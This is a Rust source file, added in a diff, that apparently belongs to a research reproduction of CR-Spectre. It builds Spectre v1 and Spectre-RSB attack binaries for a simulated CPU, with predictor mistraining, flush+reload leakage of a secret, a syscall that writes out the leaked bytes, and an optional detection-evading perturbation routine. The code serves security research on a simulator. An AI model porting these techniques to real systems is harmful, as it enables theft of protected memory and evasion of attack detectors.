@@ -1,0 +1,296 @@
+//! The speculative attack binary: Spectre v1 (bounds-check bypass) and a
+//! Spectre-RSB variant, generated as injectable guest images.
+//!
+//! The generated binary follows Kocher et al.'s PoC structure: a
+//! *victim function* that only touches `array1[x]` after a bounds check,
+//! and an *attacker loop* that mistrains the branch predictor, flushes
+//! `array1_size`, calls the victim with an out-of-bounds index aimed at
+//! the secret, and recovers the byte over the flush+reload channel. The
+//! recovered bytes are exfiltrated through the `write` syscall, and
+//! between bytes the binary optionally calls the Algorithm-2 `perturb`
+//! routine (the CR part of CR-Spectre).
+
+use cr_spectre_asm::builder::Asm;
+use cr_spectre_sim::cpu::sys;
+use cr_spectre_sim::image::Image;
+use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};
+
+use crate::covert::{emit_flush_probe, emit_probe_decode, CovertConfig};
+use crate::perturb::{emit_perturb, PerturbParams};
+
+/// Which speculation primitive the attack exploits.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum SpectreVariant {
+    /// Classic bounds-check bypass (PHT mistraining) — Spectre v1.
+    V1,
+    /// Return-stack-buffer mispredict (return-address rewrite) — the
+    /// "Spectre returns!" variant the paper averages in.
+    Rsb,
+}
+
+impl SpectreVariant {
+    /// Both implemented variants.
+    pub const ALL: [SpectreVariant; 2] = [SpectreVariant::V1, SpectreVariant::Rsb];
+
+    /// Display name.
+    pub fn name(self) -> &'static str {
+        match self {
+            SpectreVariant::V1 => "spectre_v1",
+            SpectreVariant::Rsb => "spectre_rsb",
+        }
+    }
+}
+
+impl std::fmt::Display for SpectreVariant {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+/// Configuration of a generated attack binary.
+#[derive(Debug, Clone)]
+pub struct SpectreConfig {
+    /// Binary name registered with the machine (the `execve` argument).
+    pub binary_name: String,
+    /// Absolute guest address of the secret (known to the adversary, as
+    /// in the paper's threat model).
+    pub secret_addr: u64,
+    /// Number of secret bytes to leak.
+    pub secret_len: u32,
+    /// Speculation primitive.
+    pub variant: SpectreVariant,
+    /// Covert-channel parameters.
+    pub covert: CovertConfig,
+    /// Predictor-mistraining calls per leaked byte (v1 only).
+    pub train_rounds: u32,
+    /// Attack rounds per byte (retries improve fidelity on cold lines).
+    pub rounds_per_byte: u32,
+    /// Algorithm-2 perturbation to interleave, if any — `Some` makes this
+    /// a CR-Spectre binary, `None` a plain Spectre.
+    pub perturb: Option<PerturbParams>,
+}
+
+impl SpectreConfig {
+    /// A plain Spectre v1 binary aimed at `secret_addr`.
+    pub fn new(secret_addr: u64, secret_len: u32) -> SpectreConfig {
+        assert!(secret_addr < i32::MAX as u64, "secret address must fit an immediate");
+        SpectreConfig {
+            binary_name: "spectre".to_string(),
+            secret_addr,
+            secret_len,
+            variant: SpectreVariant::V1,
+            covert: CovertConfig::default(),
+            train_rounds: 8,
+            rounds_per_byte: 2,
+            perturb: None,
+        }
+    }
+
+    /// Switches the speculation variant.
+    pub fn with_variant(mut self, variant: SpectreVariant) -> SpectreConfig {
+        self.variant = variant;
+        self
+    }
+
+    /// Attaches an Algorithm-2 perturbation (making this CR-Spectre).
+    pub fn with_perturb(mut self, params: PerturbParams) -> SpectreConfig {
+        self.perturb = Some(params);
+        self
+    }
+}
+
+/// Builds the attack binary image described by `config`.
+pub fn build_spectre_image(config: &SpectreConfig) -> Image {
+    let mut asm = Asm::new();
+    emit_main(&mut asm, config);
+    match config.variant {
+        SpectreVariant::V1 => emit_v1_victim(&mut asm, config.covert.stride),
+        SpectreVariant::Rsb => emit_rsb_victim(&mut asm, &config.covert),
+    }
+    if let Some(params) = &config.perturb {
+        emit_perturb(&mut asm, params);
+    }
+    emit_data(&mut asm, config);
+    asm.entry("main");
+    asm.build(config.binary_name.clone()).expect("spectre binary assembles")
+}
+
+fn emit_data(asm: &mut Asm, config: &SpectreConfig) {
+    asm.data_label("sp_array1_size");
+    asm.dq(16);
+    asm.data_label("sp_array1");
+    asm.db(&[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]);
+    // Pad with a full guard line so neither adjacency nor a next-line
+    // prefetch triggered by array1/array1_size misses can warm the first
+    // probe slot.
+    asm.space(40 + 64);
+    asm.data_label("sp_probe");
+    asm.space(config.covert.probe_bytes());
+    asm.space(64); // trailing guard line
+    asm.data_label("sp_recovered");
+    asm.space(u64::from(config.secret_len).max(1));
+    crate::covert::emit_evict_buffer(asm, &config.covert);
+}
+
+/// The attacker main loop. Register plan: `r12` = byte index (live across
+/// `perturb`, which clobbers `r0..r3`, `r9`, `r10`), `r11` = round
+/// counter; everything else is scratch per phase.
+fn emit_main(asm: &mut Asm, config: &SpectreConfig) {
+    asm.label("main");
+    asm.ldi(Reg::R12, 0); // byte index
+    asm.label("sp_byte");
+    asm.ldi(Reg::R11, 0); // round
+    asm.ldi(Reg::R13, 0); // best observation for this byte
+    asm.label("sp_round");
+    if config.variant == SpectreVariant::V1 {
+        // Mistrain the bounds check with in-bounds indices.
+        asm.ldi(Reg::R5, 0);
+        asm.label("sp_train");
+        asm.alui(AluOp::And, Reg::R1, Reg::R5, 15);
+        asm.call("sp_victim");
+        asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
+        asm.ldi(Reg::R6, config.train_rounds as i32);
+        asm.br(BranchCond::Ltu, Reg::R5, Reg::R6, "sp_train");
+    }
+    // Reset the channel.
+    emit_flush_probe(asm, &config.covert, "sp_probe", "m");
+    match config.variant {
+        SpectreVariant::V1 => {
+            // Flush (or evict) the bound so the check resolves slowly,
+            // then call the victim with the out-of-bounds index
+            // secret_addr + i - array1.
+            asm.la(Reg::R4, "sp_array1_size");
+            match config.covert.strategy {
+                crate::covert::ChannelStrategy::FlushReload => asm.clflush(Reg::R4, 0),
+                crate::covert::ChannelStrategy::EvictReload => {
+                    crate::covert::emit_evict_addr(asm, Reg::R4, Reg::R5, Reg::R6);
+                }
+            }
+            asm.mfence();
+            asm.la(Reg::R4, "sp_array1");
+            asm.ldi(Reg::R1, config.secret_addr as i32);
+            asm.alu(AluOp::Add, Reg::R1, Reg::R1, Reg::R12);
+            asm.alu(AluOp::Sub, Reg::R1, Reg::R1, Reg::R4);
+            asm.call("sp_victim");
+        }
+        SpectreVariant::Rsb => {
+            // r3 = &secret[i]; r10 = probe base; the victim rewrites its
+            // return address so these four instructions execute only
+            // transiently, under the stale RSB prediction.
+            asm.ldi(Reg::R3, config.secret_addr as i32);
+            asm.alu(AluOp::Add, Reg::R3, Reg::R3, Reg::R12);
+            asm.la(Reg::R10, "sp_probe");
+            asm.call("sp_victim");
+            // --- transient-only gadget (architecturally skipped) ---
+            asm.ld(Width::B, Reg::R4, Reg::R3, 0);
+            asm.alui(AluOp::Mul, Reg::R4, Reg::R4, config.covert.stride);
+            asm.alu(AluOp::Add, Reg::R5, Reg::R10, Reg::R4);
+            asm.ld(Width::B, Reg::R6, Reg::R5, 0);
+            // --- architectural resume point ---
+        }
+    }
+    // Receive: first fast probe slot into r7.
+    emit_probe_decode(asm, &config.covert, "sp_probe", "m");
+    // Keep the latest nonzero observation across rounds in r13 (the
+    // decode and flush loops clobber r4..r10).
+    asm.br(BranchCond::Eq, Reg::R7, Reg::R0, "sp_no_obs");
+    asm.mov(Reg::R13, Reg::R7);
+    asm.label("sp_no_obs");
+    asm.alui(AluOp::Add, Reg::R11, Reg::R11, 1);
+    asm.ldi(Reg::R6, config.rounds_per_byte as i32);
+    asm.br(BranchCond::Ltu, Reg::R11, Reg::R6, "sp_round");
+    // recovered[i] = r13
+    asm.la(Reg::R4, "sp_recovered");
+    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R12);
+    asm.st(Width::B, Reg::R4, Reg::R13, 0);
+    // Dynamic perturbation between bytes (the CR in CR-Spectre).
+    if config.perturb.is_some() {
+        asm.call("perturb");
+    }
+    asm.alui(AluOp::Add, Reg::R12, Reg::R12, 1);
+    asm.ldi(Reg::R4, config.secret_len as i32);
+    asm.br(BranchCond::Ltu, Reg::R12, Reg::R4, "sp_byte");
+    // Exfiltrate and exit.
+    asm.la(Reg::R1, "sp_recovered");
+    asm.ldi(Reg::R2, config.secret_len as i32);
+    asm.ldi(Reg::R0, sys::WRITE as i32);
+    asm.syscall();
+    asm.ldi(Reg::R0, sys::EXIT as i32);
+    asm.ldi(Reg::R1, 0);
+    asm.syscall();
+}
+
+/// The Spectre-v1 victim: bounds check, then the two dependent loads.
+fn emit_v1_victim(asm: &mut Asm, stride: i32) {
+    asm.label("sp_victim");
+    asm.la(Reg::R2, "sp_array1_size");
+    asm.ld(Width::D, Reg::R2, Reg::R2, 0);
+    asm.br(BranchCond::Geu, Reg::R1, Reg::R2, "sp_victim_skip");
+    asm.la(Reg::R3, "sp_array1");
+    asm.alu(AluOp::Add, Reg::R3, Reg::R3, Reg::R1);
+    asm.ld(Width::B, Reg::R4, Reg::R3, 0); // array1[x]
+    asm.alui(AluOp::Mul, Reg::R4, Reg::R4, stride); // × channel stride
+    asm.la(Reg::R5, "sp_probe");
+    asm.alu(AluOp::Add, Reg::R5, Reg::R5, Reg::R4);
+    asm.ld(Width::B, Reg::R6, Reg::R5, 0); // transmit
+    asm.label("sp_victim_skip");
+    asm.ret();
+}
+
+/// The Spectre-RSB victim: rewrites its return address to skip the
+/// 4-instruction gadget at the call site, flushes (or evicts) the stack
+/// slot so the return resolves slowly, and returns — the RSB still
+/// predicts the original site, transiently executing the gadget.
+fn emit_rsb_victim(asm: &mut Asm, covert: &crate::covert::CovertConfig) {
+    asm.label("sp_victim");
+    asm.ld(Width::D, Reg::R9, Reg::SP, 0);
+    asm.alui(AluOp::Add, Reg::R9, Reg::R9, 4 * 8);
+    asm.st(Width::D, Reg::SP, Reg::R9, 0);
+    match covert.strategy {
+        crate::covert::ChannelStrategy::FlushReload => asm.clflush(Reg::SP, 0),
+        crate::covert::ChannelStrategy::EvictReload => {
+            // r2/r9 are dead here; r3/r10 carry the caller's gadget state.
+            crate::covert::emit_evict_addr(asm, Reg::SP, Reg::R2, Reg::R9);
+        }
+    }
+    asm.ret();
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn config_defaults() {
+        let cfg = SpectreConfig::new(0x4000, 8);
+        assert_eq!(cfg.variant, SpectreVariant::V1);
+        assert!(cfg.perturb.is_none());
+        let cr = cfg.clone().with_perturb(PerturbParams::paper_default());
+        assert!(cr.perturb.is_some());
+        let rsb = cfg.with_variant(SpectreVariant::Rsb);
+        assert_eq!(rsb.variant, SpectreVariant::Rsb);
+    }
+
+    #[test]
+    #[should_panic(expected = "immediate")]
+    fn oversized_secret_addr_panics() {
+        let _ = SpectreConfig::new(1 << 40, 8);
+    }
+
+    #[test]
+    fn image_builds_with_expected_symbols() {
+        let image = build_spectre_image(&SpectreConfig::new(0x8000, 16));
+        for sym in ["main", "sp_victim", "sp_probe", "sp_recovered", "sp_array1"] {
+            assert!(image.symbol(sym).is_some(), "missing {sym}");
+        }
+        assert!(image.size() > CovertConfig::default().probe_bytes());
+    }
+
+    #[test]
+    fn cr_image_includes_perturb() {
+        let cfg = SpectreConfig::new(0x8000, 4).with_perturb(PerturbParams::paper_default());
+        let image = build_spectre_image(&cfg);
+        assert!(image.symbol("perturb").is_some());
+        assert!(image.symbol("pt_buf").is_some());
+    }
+}
